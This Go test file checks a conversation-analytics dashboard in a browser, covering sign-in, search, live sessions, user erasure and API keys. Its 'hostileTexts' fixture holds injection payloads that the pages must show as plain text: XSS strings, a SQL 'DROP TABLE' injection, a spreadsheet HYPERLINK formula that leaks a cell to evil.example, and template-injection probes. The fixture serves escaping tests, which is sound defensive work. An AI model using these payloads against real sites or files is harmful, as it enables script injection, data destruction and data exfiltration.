package dashboard_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/openalign/align/collector"
	"github.com/openalign/align/collector/dashboard"
)

// pages are all there are, by name.
func pages() map[string]string {
	at := func(path string) string { return "/dashboard/" + path }
	return map[string]string{
		"overview":      at("?project=shop"),
		"conversations": at("conversations?project=shop"),
		"search":        at("conversations?project=shop&q=warehouse"),
		"conversation":  at("conversation?project=shop&id=edited"),
		"versions":      at("versions?project=shop&id=edited&index=2"),
		"event":         at("event?project=shop&id=open-edited"),
		"users":         at("users?project=shop"),
		"user":          at("user?project=shop&id=user-01"),
		"metrics":       at("metrics?project=shop"),
		"metric":        at("metric?project=shop&name=thumbs_up_rate"),
		"latency":       at("metric?project=shop&name=response_latency&by=channel&where=language&is=en"),
		"exports":       at("exports?project=shop"),
		"quality":       at("quality?project=shop&kind=3"),
		"live":          at("live?project=shop"),
		"settings":      at("settings?project=shop"),
		"nothing":       at("conversations?project=shop&q=xyzzy"),
		"hostile":       at("conversation?project=shop&id=hostile"),
	}
}

// lively is a world with something on every page, and about so many more conversations a day.
func lively(t *testing.T, perDay int) *world {
	w := newWorld(t, dashboard.Options{})
	now := time.Now()
	w.month(now, perDay)
	at := now.Add(-2 * time.Hour)
	w.opened("edited", "user-01", "A parcel and its label", at)
	w.said("edited", 1, "user", "Where is parcel 77, and where do I find the label?", at.Add(time.Second))
	w.said("edited", 2, "assistant", "It is in our depot.", at.Add(3*time.Second))
	w.said("edited", 2, "assistant", "It is in our depot in Lyon and leaves tonight. The label is in your inbox, sent at noon.", at.Add(9*time.Second))
	w.voted("edited", 2, "user-01", "thumbs_down", "The label is not there 🤷", at.Add(20*time.Second))
	w.said("edited", 3, "user", "I looked. It is not.", at.Add(30*time.Second))
	w.said("edited", 4, "assistant", "I have sent it again. أرسلته مرة أخرى.", at.Add(33*time.Second))
	w.voted("edited", 4, "user-01", "thumbs_up", "", at.Add(40*time.Second))
	w.hostile(now.Add(-3 * time.Hour))
	w.stored(t)
	w.key(collector.ScopeIngest)
	w.key(collector.ScopeRead)
	return w
}

func TestDashboardInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("takes long: not with -short")
	}
	w := lively(t, 6)
	if err := w.exports.Finalize(t.Context(), project, collector.DayOf(time.Now().AddDate(0, 0, -2))); err != nil {
		t.Fatal(err)
	}
	c := startChromium(t, w.web.URL)
	tool := axe(t)

	c.open("/dashboard/conversations?project=shop&q=depot")
	c.picture("signin")
	c.accessible(tool, "signin")
	c.write("#key", w.key(collector.ScopeAdmin))
	c.press("button.primary")
	if text := c.text(); !strings.Contains(text, "A parcel and its label") { // the page that was asked for
		t.Fatalf("after signing in: %s", text)
	}

	c.open("/dashboard/?project=shop")
	if text := c.text(); !strings.Contains(text, "Thumbs-up rate") {
		t.Fatalf("overview: %s", text)
	}
	c.press(`nav a[href^="/dashboard/conversations"]`)
	c.write("#q", "lyon")
	c.press(".search button")
	var marked string
	c.eval(`[...document.querySelectorAll("mark")].map(e => e.textContent).join(" ")`, &marked)
	if marked != "Lyon" {
		t.Errorf("what was looked for is marked as %q", marked)
	}
	c.press("a.row")
	if text := c.text(); !strings.Contains(text, "leaves tonight") || !strings.Contains(text, "The label is not there 🤷") || !strings.Contains(text, "2 versions") {
		t.Errorf("the conversation: %s", text)
	}
	c.fine("conversation")

	for name, path := range pages() {
		c.open(path)
		var sideways bool
		for _, phone := range []bool{false, true} {
			c.look(false, phone)
			c.eval(`document.documentElement.scrollWidth > document.documentElement.clientWidth`, &sideways)
			if sideways {
				t.Errorf("%s scrolls sideways, on a phone: %v", name, phone)
			}
		}
		c.picture(name)
		c.accessible(tool, name)
		c.fine(name)
	}

	// Sessions appear as they happen, without another look.
	c.open("/dashboard/live?project=shop")
	c.wait(`document.getElementById("live").dataset.state === "watching"`)
	ingest := w.key(collector.ScopeIngest)
	w.ingest(ingest, "live-1", "user-02", "<b>Is anybody there?</b>")
	c.wait(`document.querySelector("[data-conversation=live-1]")?.innerText.includes("anybody")`)
	var first string
	c.eval(`document.querySelector("#happening li").innerText`, &first)
	if !strings.HasPrefix(first, "<b>Is anybody there?</b>") {
		t.Errorf("the newest session says %q", first)
	}
	c.picture("live-event")
	c.press(`[data-conversation="live-1"] a`)
	if text := c.text(); !strings.Contains(text, "<b>Is anybody there?</b>") {
		t.Errorf("the live session: %s", text)
	}
	c.fine("live")

	// Erasing takes the id, typed in.
	c.open("/dashboard/user?project=shop&id=user-02")
	c.write("#confirm", "user-02")
	c.press(".danger button")
	if text := c.text(); !strings.Contains(text, "User erased") {
		t.Errorf("erasing: %s", text)
	}
	c.picture("erased")
	if _, err := w.store.User(context.Background(), project, "user-02"); err == nil {
		t.Error("the user is still there")
	}
	c.open("/dashboard/settings?project=shop")
	c.press(".make button")
	c.picture("key")
	c.accessible(tool, "key")
	if text := c.text(); !strings.Contains(text, "align_ingest_") {
		t.Errorf("no key was made: %s", text)
	}

	c.press(".signout button")
	if text := c.text(); !strings.Contains(text, "API key of scope read or admin") {
		t.Errorf("after signing out: %s", text)
	}
	c.open("/dashboard/conversation?project=shop&id=edited")
	if text := c.text(); strings.Contains(text, "depot") {
		t.Error("a page can be read without a session")
	}
	c.fine("after signing out")
}

func TestLinkSignsABrowserIn(t *testing.T) {
	w := newWorld(t, dashboard.Options{})
	c := startChromium(t, w.web.URL)
	link, err := dashboard.Link(t.Context(), w.store, "", collector.ScopeAdmin)
	if err != nil {
		t.Fatal(err)
	}
	c.open(link)
	c.picture("link")
	c.press("button.primary")
	c.picture("first")
	if text := c.text(); !strings.Contains(text, "There is no project yet") {
		t.Fatalf("after signing in: %s", text)
	}
	c.write(`input[name="name"]`, "first-shop")
	c.press(".make button")
	if text := c.text(); !strings.Contains(text, "of project first-shop, scope ingest") {
		t.Errorf("no project was made: %s", text)
	}
	c.press(`nav a[href^="/dashboard/?"]`)
	c.picture("empty")
	if text := c.text(); !strings.Contains(text, "Overview") {
		t.Errorf("the overview of a new project: %s", text)
	}
	c.fine("the first minutes")
	c.open(link)
	c.press("button.primary")
	if text := c.text(); !strings.Contains(text, "This link was used already") {
		t.Errorf("the link a second time: %s", text)
	}
}

// hostile adds a conversation that tries to be anything but text.
func (w *world) hostile(at time.Time) {
	w.opened("hostile", "hostile-user", hostileTexts[0], at)
	for i, text := range hostileTexts {
		w.said("hostile", int32(i+1), []string{"user", "assistant"}[i%2], text, at.Add(time.Duration(i)*time.Second))
	}
	w.voted("hostile", 2, "hostile-user", "thumbs_down", hostileTexts[0], at.Add(time.Hour))
	w.said("hostile", 1, "user", hostileTexts[1], at.Add(-time.Second)) // another version
	w.known("hostile-user", hostileTexts[0], hostileTexts[1], "", at)
}

// hostileTexts are what pages must show as it is.
var hostileTexts = []string{
	`<script>alert(1)</script><img src=x onerror="alert(2)"><svg/onload=alert(3)>`,
	`"><a href="javascript:alert(4)">here</a>' onmouseover='alert(5)`,
	`'; DROP TABLE messages; --`,
	`=HYPERLINK("http://evil.example/?"&A1)`,
	`{{.Visit.Token}} {{template "token"}} ${7*7} <%= 7*7 %>`,
	`![x](http://evil.example/x.png) [click](javascript:alert(6)) http://evil.example`,
	"\u202edlrow olleh\u202c \u2066\u2067isolated \u200f\u200e\u061c\u202d and never ended",
	"A\x01\x02\x07\x1b[31mred\x7f\u0085\u2028line\u2029paragraph\u00ad\ufeff",
	everyPlane(),
	"wide" + strings.Repeat("W", 100_000),
	strings.Repeat(`"&<>'`, 200_000),
	strings.Repeat("Z̸̢̛͙̈́a̷l̴g̵o̶", 200),
	strings.Repeat("line\n", 5_000),
	"</textarea></title></style></template></noscript>--><!--",
}

// everyPlane is text of every plane of Unicode that has any.
func everyPlane() string {
	var b strings.Builder
	for plane := range rune(17) {
		for _, at := range []rune{0x41, 0x1234, 0xF600, 0xFFFD} {
			b.WriteRune(plane<<16 + at)
		}
	}
	return b.String()
}

// ingest sends a session over HTTP, as an app would.
func (w *world) ingest(key, session, user, text string) {
	w.t.Helper()
	at := time.Now().UTC().Format(time.RFC3339Nano)
	body := fmt.Sprintf(`{"requestId":%[1]q,"events":[{"id":"%[1]s-open","type":"session_open","createTime":%[4]q,"properties":{"sessionProperties":{"sessionId":%[1]q,"userId":%[2]q}}},
		{"id":"%[1]s-said","type":"message_create","createTime":%[4]q,"properties":{"messageProperties":{"sessionId":%[1]q,"messageIndexHint":1,"messageRole":"ROLE_USER","messageContent":%[3]q}}}]}`,
		session, user, text, at)
	b := w.browser()
	r := b.request("POST", "/ingestion.v1alpha.IngestionService/CollectEvents", body)
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Authorization", "Bearer "+key)
	if status, _, answer := b.do(r); status != 200 {
		w.t.Fatalf("ingest: %d %s", status, answer)
	}
}
